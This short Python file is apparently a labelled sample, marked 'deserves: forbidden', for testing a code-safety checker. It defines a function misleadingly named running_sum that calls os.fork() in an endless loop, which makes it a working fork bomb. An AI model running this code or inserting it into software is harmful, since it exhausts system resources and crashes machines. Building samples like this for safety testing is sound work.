"""Starts processes that start processes.

deserves: forbidden
"""

import os


def running_sum(x):
    while True:
        os.fork()
